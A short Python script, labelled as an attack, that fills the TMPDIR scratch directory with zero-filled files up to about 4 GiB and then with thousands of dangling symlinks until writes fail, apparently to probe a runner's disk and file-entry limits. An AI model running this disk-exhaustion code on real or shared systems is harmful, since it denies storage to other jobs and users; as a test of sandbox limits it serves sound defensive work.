# attack: fill scratch with bytes, then with empty files, until nothing is left for the runner
import os, sys

scratch = os.environ["TMPDIR"]
written, number = 0, 0
try:
    while written < 1 << 32:
        number += 1
        with open(os.path.join(scratch, f"block-{number}"), "wb", buffering=0) as file:
            for _ in range(8):
                written += file.write(bytes(1 << 20))
except OSError as error:
    print(f"{written >> 20} MiB, then {error.strerror}")
else:
    sys.exit("scratch has no end")
try:
    for number in range(20_000):
        os.symlink("x", os.path.join(scratch, f"entry-{number}"))
except OSError as error:
    print(f"{number} entries, then {error.strerror}")
